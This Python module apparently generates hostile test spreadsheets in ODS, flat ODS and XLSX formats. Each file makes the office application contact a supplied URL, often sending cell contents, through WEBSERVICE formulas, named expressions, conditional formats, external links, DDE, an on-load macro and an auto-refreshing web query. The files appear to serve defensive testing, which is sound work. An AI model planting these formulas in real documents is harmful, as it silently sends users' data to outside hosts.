"""Documents that ask somebody else for something in every way Calc knows, beside calls of ours."""

import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
MIME = "application/vnd.oasis.opendocument.spreadsheet"
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
SPACES = " ".join(
    f'xmlns:{name}="{OASIS}:{version}"'
    for name, version in {
        "office": "office:1.0",
        "table": "table:1.0",
        "text": "text:1.0",
        "style": "style:1.0",
        "of": "of:1.2",
    }.items()
)
SPACES += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
SPACES += (
    ' xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
    ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
)
BROKEN = "_xll.RENT_PER_MONTH(2)"
WEBSERVICE = "COM.MICROSOFT.WEBSERVICE"  # as an OpenDocument file spells it
ASKS = WEBSERVICE + '("{url}?x=" & [.B1])'
B1 = "Sheet1.B1"


def cell(formula: str) -> str:
    """A row whose second cell holds a formula and the value it had."""
    return (
        "<table:table-row><table:table-cell/><table:table-cell "
        f'table:formula={quoteattr("of:=" + formula)} office:value-type="float" '
        'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>'
    )


def sheet(formulas: Iterable[str], attributes: str = "", inside: str = "") -> str:
    """A sheet with a formula in each row of column B."""
    rows = "".join(map(cell, formulas))
    return f'<table:table table:name="Sheet1" {attributes}>{inside}{rows}</table:table>'


def document(tables: str, before: str = "", after: str = "") -> str:
    """A flat document."""
    kind = f'office:mimetype="{MIME}"'
    return (
        f'{HEAD}<office:document {SPACES} office:version="1.3" {kind}><office:body>'
        f"<office:spreadsheet>{before}{tables}{after}</office:spreadsheet>"
        "</office:body></office:document>"
    )


def in_a_name(url: str) -> str:
    """A name stands for the question, and a cell that needs our answer for the name."""
    asked = quoteattr("of:=" + ASKS.format(url=url).replace("[.B1]", "[$Sheet1.$B$1]"))
    names = (
        "<table:named-expressions><table:named-expression table:name='ASKED' "
        f"table:base-cell-address='$Sheet1.$A$1' table:expression={asked}/>"
        "</table:named-expressions>"
    )
    return document(sheet([BROKEN, "ASKED&[.B1]"]), after=names)


def in_a_condition(url: str) -> str:
    """A cell is red where the answer of somebody else is long."""
    asked = f"LEN({ASKS.format(url=url)})>0".replace("[.B1]", "$B$1")
    condition = (
        "<calcext:conditional-formats><calcext:conditional-format "
        'calcext:target-range-address="Sheet1.B1:Sheet1.B2"><calcext:condition '
        f"calcext:apply-style-name='Default' calcext:value={quoteattr(f'formula-is({asked})')} "
        'calcext:base-cell-address="Sheet1.B1"/></calcext:conditional-format>'
        "</calcext:conditional-formats>"
    )
    page = sheet([BROKEN, "[.B1]"]).removesuffix("</table:table>")
    return document(f"{page}{condition}</table:table>")


def in_a_validity(url: str) -> str:
    """What may be typed depends on somebody else."""
    asked = quoteattr(f"of:is-true-formula(LEN({ASKS.format(url=url)})>0)")
    rules = (
        f'<table:content-validations><table:content-validation table:name="v" '
        f'table:condition={asked} table:base-cell-address="{B1}"/></table:content-validations>'
    )
    ruled = '<table:table-cell table:content-validation-name="v" '
    return document(sheet([BROKEN]).replace("<table:table-cell ", ruled), before=rules)


def of_another_sheet(url: str) -> str:
    """A sheet is a copy of one in another document."""
    source = (
        f'<table:table-source xlink:href="{url}book.ods" table:table-name="S" xlink:type="simple"/>'
    )
    return document(sheet([BROKEN], inside=source))


def of_another_area(url: str) -> str:
    """Cells are a copy of some in another document."""
    source = (
        f'<table:cell-range-source table:name="A1:B2" xlink:href="{url}book.ods" '
        'xlink:type="simple" table:filter-name="calc8" table:last-column-spanned="1" '
        'table:last-row-spanned="1" table:refresh-delay="PT1S"/>'
    )
    filled = f"<table:table-cell>{source}</table:table-cell>"
    return document(sheet([BROKEN]).replace("<table:table-cell/>", filled))


def of_a_dde_server(url: str) -> str:
    """A program is asked, with the answer it gave last."""
    links = (
        '<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" '
        f'office:dde-topic="{url}book.ods" office:dde-item="A1" office:automatic-update="true"/>'
        '<table:table><table:table-row><table:table-cell office:value-type="float" '
        'office:value="1"/></table:table-row></table:table></table:dde-link></table:dde-links>'
    )
    asked = f'DDE("soffice";"{url}book.ods";"A1")+[.B1]'
    return document(sheet([BROKEN, asked]), after=links)


def when_it_opens(url: str) -> str:
    """A macro is to run as soon as the document is open."""
    events = (
        '<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:type="simple" xlink:href="vnd.sun.star.script:'
        'Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners>'
    )
    text = document(sheet([BROKEN]))
    return text.replace("<office:body>", f"<office:scripts>{events}</office:scripts><office:body>")


def cells(*formulas: str) -> Callable[[str], str]:
    """Documents that hold nothing but formulas."""
    return lambda url: document(sheet(each.replace("{url}", url) for each in formulas))


OPEN_DOCUMENT: dict[str, Callable[[str], str]] = {
    "a word with our name in it": cells(WEBSERVICE + '("{url}?x=" & [.A9]) & "profits"'),
    "beside a call": cells(WEBSERVICE + '("{url}") & T(RENT_PER_MONTH(2))', BROKEN),
    "unknown until it is typed": cells(
        'WEBSERVICE("{url}?x=" & [.A9]) & T(RENT_PER_MONTH(2))', BROKEN
    ),
    "unknown until it is typed, a word with our name in it": cells(
        'WEBSERVICE("{url}?x=" & [.A9]) & "profits"'
    ),
    "beside a broken call": cells(f'{WEBSERVICE}("{{url}}") & T({BROKEN})'),
    "behind a broken call": cells(f'{BROKEN}+LEN({WEBSERVICE}("{{url}}"))'),
    "on what we answer": cells(BROKEN, ASKS),
    "spelled apart": cells(BROKEN, WEBSERVICE + '  ( "{url}?x=" & [.B1] )'),
    "in small letters": cells(BROKEN, WEBSERVICE.lower() + '("{url}?x=" & [.B1])'),
    "by its short name": cells(BROKEN, 'WEBSERVICE("{url}?x=" & [.B1])'),
    "by an address that is put together": cells(
        BROKEN, "INDIRECT(\"'{url}book.ods'#$Sheet1.A\"&[.B1])"
    ),
    "by a link to click": cells(BROKEN, 'HYPERLINK("{url}?x=" & [.B1])'),
    "of another document": cells(f"'{{url}}book.ods'#$Sheet1.A1+{BROKEN}"),
    "of another document, elsewhere": cells(BROKEN, "['{url}book.ods'#$Sheet1.A1]+[.B1]"),
    "of a picture": cells(BROKEN, 'IMAGE("{url}x.png")'),
    "in a name": in_a_name,
    "in a condition": in_a_condition,
    "in a validity": in_a_validity,
    "of another sheet": of_another_sheet,
    "of another area": of_another_area,
    "of a DDE server": of_a_dde_server,
    "when it opens": when_it_opens,
}


def flat(path: Path, text: str) -> None:
    """Write an .fods document."""
    path.write_text(text, encoding="utf-8")


def packed(path: Path, text: str) -> None:
    """Write an .ods document."""
    entry = '<manifest:file-entry manifest:full-path="{}" manifest:media-type="{}"/>'
    listed = entry.format("/", MIME) + entry.format("content.xml", "text/xml")
    space = f'xmlns:manifest="{OASIS}:manifest:1.0"'
    content = text.replace("office:document ", "office:document-content ", 1)
    content = content.replace("</office:document>", "</office:document-content>")
    with zipfile.ZipFile(path, "w") as parts:
        parts.writestr("mimetype", MIME)
        parts.writestr("content.xml", content.replace(f' office:mimetype="{MIME}"', ""))
        parts.writestr(
            "META-INF/manifest.xml",
            f'{HEAD}<manifest:manifest {space} manifest:version="1.3">{listed}</manifest:manifest>',
        )


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTENDED = OFFICE.replace("relationships", "extended-properties")
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def workbook(
    path: Path,
    formulas: Iterable[str],
    more: str = "",
    names: str = "",
    parts: dict[str, tuple[str, str, str]] | None = None,
) -> None:
    """Write an .xlsx; `parts` are further ones by relation: their type, path and content."""
    given = parts or {}
    rows = "".join(
        f'<row r="{n}"><c r="B{n}"><f>{escape(formula)}</f><v>1</v></c></row>'
        for n, formula in enumerate(formulas, 1)
    )
    related = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/{relation}" Target="{place}"/>'
        for n, (relation, (_, place, _)) in enumerate(given.items(), 2)
    )
    typed = "".join(
        f'<Override PartName="/xl/{place}" ContentType="{kind}"/>'
        for kind, place, _ in given.values()
    )
    references = "".join(
        f'<externalReferences><externalReference r:id="rId{n}"/></externalReferences>'
        for n, relation in enumerate(given, 2)
        if relation == "externalLink"
    )
    files = {
        "docProps/app.xml": f'<Properties xmlns="{EXTENDED}">'
        "<Application>Microsoft Excel</Application><AppVersion>16.0300</AppVersion></Properties>",
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{TYPES}.sheet.main+xml"/>'
        f'<Override PartName="/xl/sheet1.xml" ContentType="{TYPES}.worksheet+xml"/>'
        '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-'
        f'officedocument.extended-properties+xml"/>{typed}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" '
        f'Type="{OFFICE}/extended-properties" Target="docProps/app.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet '
        f'name="Sheet1" sheetId="1" r:id="rId1"/></sheets>{references}{names}</workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="sheet1.xml"/>{related}'
        "</Relationships>",
        "xl/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData>{more}'
        "</worksheet>",
    }
    with zipfile.ZipFile(path, "w") as book:
        for name, text in files.items():
            book.writestr(name, HEAD + text)
        for _, place, content in given.values():
            book.writestr(f"xl/{place}", HEAD + content)


def linked(target: str, content: str) -> Callable[[Path, tuple[str, ...]], None]:
    """Return what writes a workbook with a part that names something outside."""
    part = f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{content}</externalLink>'

    def write(path: Path, formulas: tuple[str, ...]) -> None:
        kind = f"{TYPES}.externalLink+xml"
        workbook(path, formulas, parts={"externalLink": (kind, "externalLinks/e1.xml", part)})
        relation = (
            f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
            f'Type="{OFFICE}/externalLinkPath" Target="{target}" TargetMode="External"/>'
            "</Relationships>"
        )
        with zipfile.ZipFile(path, "a") as book:
            book.writestr("xl/externalLinks/_rels/e1.xml.rels", relation)

    return write


OTHER_BOOK = (
    '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
    '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>1</v></cell></row>'
    "</sheetData></sheetDataSet></externalBook>"
)
XL_ASKS = '_xlfn.WEBSERVICE("{url}?x="&B1)'


def xl_cells(*formulas: str) -> Callable[[Path, str], None]:
    """Workbooks that hold nothing but formulas."""
    return lambda path, url: workbook(path, [each.replace("{url}", url) for each in formulas])


def xl_link(*formulas: str, name: str = "book.xlsx") -> Callable[[Path, str], None]:
    """Workbooks with a link to another one."""
    return lambda path, url: linked(f"{url}{name}", OTHER_BOOK)(path, formulas)


def xl_dde(path: Path, url: str) -> None:
    """A program is asked for an item of a topic."""
    content = (
        f'<ddeLink ddeService="soffice" ddeTopic="{url}book.ods"><ddeItems><ddeItem name="A1" '
        'advise="1"><values><value><val>1</val></value></values></ddeItem></ddeItems></ddeLink>'
    )
    linked(url, content)(path, (BROKEN, "[1]!A1+B1"))


def xl_name(path: Path, url: str) -> None:
    """A name stands for the question."""
    asked = escape(XL_ASKS.format(url=url).replace("B1", "Sheet1!$B$1"))
    names = f'<definedNames><definedName name="ASKED">{asked}</definedName></definedNames>'
    workbook(path, [BROKEN, "ASKED&B1"], names=names)


def xl_condition(path: Path, url: str) -> None:
    """A cell is red where the answer of somebody else is long."""
    asked = escape(f"LEN({XL_ASKS.format(url=url)})>0")
    rule = (
        '<conditionalFormatting sqref="B1:B2"><cfRule type="expression" priority="1">'
        f"<formula>{asked}</formula></cfRule></conditionalFormatting>"
    )
    workbook(path, [BROKEN, "B1"], more=rule)


def xl_query(path: Path, url: str) -> None:
    """A connection to a page of the web that is to be renewed on opening."""
    content = (
        f'<connections xmlns="{MAIN}"><connection id="1" name="c" type="4" refreshedVersion="8" '
        f'refreshOnLoad="1" background="1"><webPr url="{url}"/></connection></connections>'
    )
    kind = f"{TYPES}.connections+xml"
    workbook(path, [BROKEN], parts={"connections": (kind, "connections.xml", content)})


EXCEL: dict[str, Callable[[Path, str], None]] = {
    "a word with our name in it": xl_cells('_xlfn.WEBSERVICE("{url}?x="&A9)&"profits"'),
    "beside a call": xl_cells('_xlfn.WEBSERVICE("{url}")&T(RENT_PER_MONTH(2))', BROKEN),
    "unknown until it is typed": xl_cells('WEBSERVICE("{url}?x="&A9)&T(RENT_PER_MONTH(2))', BROKEN),
    "unknown until it is typed, a word with our name in it": xl_cells(
        'WEBSERVICE("{url}?x="&A9)&"profits"'
    ),
    "beside a broken call": xl_cells(f'_xlfn.WEBSERVICE("{{url}}")&T({BROKEN})'),
    "on what we answer": xl_cells(BROKEN, XL_ASKS),
    "by an address that is put together": xl_cells(
        BROKEN, "INDIRECT(\"'[{url}book.xlsx]Sheet1'!A\"&B1)"
    ),
    "by a link to click": xl_cells(BROKEN, 'HYPERLINK("{url}?x="&B1)'),
    "of another document": xl_link(f"[1]Sheet1!A1+{BROKEN}"),
    "of another document, elsewhere": xl_link(BROKEN, "[1]Sheet1!A2+B1"),
    "of an add-in that is elsewhere": xl_link("[1]!RENT_PER_MONTH(2)", name="evenpoint.xlam"),
    "of a picture": xl_cells(BROKEN, '_xlfn.IMAGE("{url}x.png")'),
    "in a name": xl_name,
    "in a condition": xl_condition,
    "of a DDE server": xl_dde,
    "of a page": xl_query,
}


HOSTILE = {"fods": OPEN_DOCUMENT, "ods": OPEN_DOCUMENT, "xlsx": EXCEL}


def write(folder: Path, kind: str, name: str, url: str) -> Path:
    """Write a hostile document of a kind and return where it is."""
    path = folder / f"hostile.{kind}"
    if kind == "xlsx":
        EXCEL[name](path, url)
    else:
        {"fods": flat, "ods": packed}[kind](path, OPEN_DOCUMENT[name](url))
    return path
